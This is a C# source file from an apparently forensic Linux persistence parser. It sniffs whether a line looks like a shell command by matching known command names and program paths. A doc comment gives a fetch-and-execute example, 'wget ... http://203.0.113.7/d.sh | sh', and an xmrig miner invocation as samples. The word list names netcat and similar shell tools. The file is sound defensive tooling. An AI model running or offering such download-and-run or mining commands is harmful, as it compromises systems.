namespace Timeline.Parsers.Linux.Persistence;

/// <summary>
/// Whether a line looks like something typed at a shell prompt: its first word is a common command
/// or builtin (<c>cd /tmp</c>, <c>wget -q -O - http://203.0.113.7/d.sh | sh</c>, <c>sudo su -</c>)
/// or a path to a program (<c>./xmrig -o ...</c>, <c>/usr/bin/curl ...</c>, <c>~/.configrc/a/upd</c>).
/// Used for sniffing only: a history file or a script has no grammar that proves it.
/// </summary>
public static class ShellCommandShape
{
    private static readonly HashSet<string> Common = new(StringComparer.Ordinal)
    {
        "alias", "apt", "apt-get", "awk", "base64", "bash", "bg", "bzip2", "busybox", "cat", "cc", "cd", "chattr",
        "chgrp", "chmod", "chown", "chpasswd", "chroot", "clear", "cp", "crontab", "curl", "cut", "dash", "date", "dd",
        "df", "dig", "disown", "dmesg", "dnf", "docker", "dpkg", "du", "echo", "ed", "emacs", "env", "exec", "exit",
        "export", "fg", "file", "find", "free", "gcc", "git", "grep", "groupadd", "gunzip", "gzip", "halt", "head", "history",
        "hostname", "htop", "id", "ifconfig", "insmod", "iptables", "ip", "jobs", "journalctl", "kill", "killall",
        "kubectl", "la", "last", "lastlog", "ldd", "less", "ll", "ln", "logout", "ls", "lsattr", "lsblk", "lscpu", "lsmod",
        "lsof", "make", "man", "masscan", "md5sum", "mkdir", "modprobe", "more", "mount", "mv", "mysql", "nano", "nc",
        "ncat", "netcat", "netstat", "nmap", "node", "nohup", "npm", "nslookup", "od", "openssl", "passwd", "perl", "pgrep",
        "php", "ping", "pip", "pip3", "pkill", "poweroff", "printf", "ps", "psql", "pwd", "python", "python2", "python3",
        "reboot", "redis-cli", "rm", "rmdir", "route", "rpm", "rsync", "ruby", "scp", "screen", "sed", "service", "set",
        "setsid", "sftp", "sh", "sha256sum", "shred", "shutdown", "sleep", "sort", "source", "ss", "ssh", "ssh-copy-id",
        "ssh-keygen", "stat", "strace", "strings", "su", "sudo", "sysctl", "systemctl", "tail", "tar", "tee", "telnet",
        "tmux", "top", "touch", "tr", "traceroute", "uname", "uniq", "umount", "unset", "unzip", "uptime", "useradd",
        "userdel", "usermod", "vi", "vim", "w", "watch", "wc", "wget", "whereis", "which", "who", "whoami", "xargs",
        "xxd", "xz", "yum", "zip", "zsh", ".",
    };

    /// <summary>True when the first word of <paramref name="line"/> is a known command or a program path.</summary>
    public static bool LooksLikeCommand(string line)
    {
        var text = line.AsSpan().TrimStart();
        if (text.IsEmpty) return false;
        var end = text.IndexOfAny(' ', '\t', ';');
        var word = (end < 0 ? text : text[..end]).ToString();
        if (IsProgramPath(word)) return true;
        return Common.Contains(word);
    }

    /// <summary>True for <c>/usr/bin/x</c>, <c>./x</c>, <c>../x</c>, <c>~/x</c>: a program named by path.</summary>
    public static bool IsProgramPath(string word) =>
        word.Length > 1 && (word[0] == '/' || word.StartsWith("./", StringComparison.Ordinal)
            || word.StartsWith("../", StringComparison.Ordinal) || word.StartsWith("~/", StringComparison.Ordinal))
        && !word.EndsWith(':');

    /// <summary>True when <paramref name="word"/> is one of the common commands (not a path).</summary>
    public static bool IsCommonCommand(string word) => Common.Contains(word);
}
